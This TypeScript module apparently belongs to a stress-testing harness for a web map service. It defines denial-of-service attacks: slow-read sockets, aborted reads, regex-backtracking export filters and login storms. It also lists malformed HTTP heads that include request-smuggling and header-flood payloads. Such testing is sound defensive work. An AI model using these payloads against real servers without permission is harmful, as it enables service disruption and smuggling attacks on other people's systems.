import { once } from "node:events";
import { type Attack, again, open, pause, send } from "./attack.js";

/** Lists and other reads that cost more than they bring. */

const unread = 16;

const unreadLists: Attack = {
  name: "unread-lists",
  clients: 1,
  run: async (at) => {
    const path = `${at.victim.layer}objects/?fields=*&returnGeom=1&sort=${at.victim.column}`;
    const head = `GET ${path} HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${at.address}\r\n\r\n`;
    await again(at, async () => {
      for (let index = 0; index < unread; index++) {
        const socket = open(at, head);
        socket.pause();
      }
      if (!at.signal.aborted) await once(at.signal, "abort");
      return true;
    });
  },
};

const abortedReads: Attack = {
  name: "aborted-reads",
  clients: 8,
  run: (at) =>
    again(at, async () => {
      const { layer, map, column } = at.victim;
      const paths = [
        `${layer}objects/?fields=*&returnGeom=1&sort=${column}`,
        `${layer}count/?precise=true`,
        `${layer}bbox/`,
        `${map}search/?phrase=place%20${at.random.whole(0, 9)}`,
        `${layer}export/?format=geojson`,
      ];
      const leaves = AbortSignal.timeout(at.random.whole(1, 80));
      await send(at, at.random.one(paths), { signal: AbortSignal.any([at.signal, leaves]) });
      return true;
    }),
};

/** Regular expressions in filters of exports, which everybody may ask of a public map. */
const expensiveFilters: Attack = {
  name: "expensive-filters",
  clients: 6,
  run: (at) =>
    again(at, async () => {
      const { random, victim } = at;
      const one = () =>
        `${victim.column} matches '(.*)*${random.whole(0, 9)}(.*)*${random.whole(0, 9)}(.*)*'`;
      const filter = Array.from({ length: random.whole(1, 20) }, one).join(" or ");
      const path = `${victim.layer}export/?format=csv&filter=${encodeURIComponent(filter)}`;
      return (await send(at, path)).status === 200;
    }),
};

/** Passwords that are wrong, of users that there are and are not. */
const loginStorms: Attack = {
  name: "login-storms",
  clients: 12,
  run: (at) =>
    again(at, async () => {
      const user = at.random.one(["nobody", `u${at.random.whole(0, 1e6)}`, "hostile"]);
      const body = JSON.stringify({ user, pass: String(at.random.next()) });
      const headers = { "content-type": "application/json" };
      return (await send(at, at.victim.login, { method: "POST", body, headers })).status === 403;
    }),
};

const heads = [
  "GET / HTTP/1.1\r\nHost : a\r\n\r\n",
  "GET / HTTP/1.1\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
  "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
  "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
  `GET / HTTP/1.1\r\nHost: a\r\n${"A: b\r\n".repeat(300)}\r\n`,
  `GET / HTTP/1.1\r\nHost: a\r\nA: ${"b".repeat(9_000)}\r\n\r\n`,
  "GET /%00%ff%2e%2e/ HTTP/1.1\r\nHost: a\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001",
];

const malformedHeads: Attack = {
  name: "malformed-heads",
  clients: 8,
  run: (at) =>
    again(at, async () => {
      const socket = open(at, at.random.one(heads));
      socket.resume();
      await pause(at.signal, at.random.whole(5, 100));
      socket.destroy();
      return true;
    }),
};

export const reads: readonly Attack[] = [
  unreadLists,
  abortedReads,
  expensiveFilters,
  loginStorms,
  malformedHeads,
];
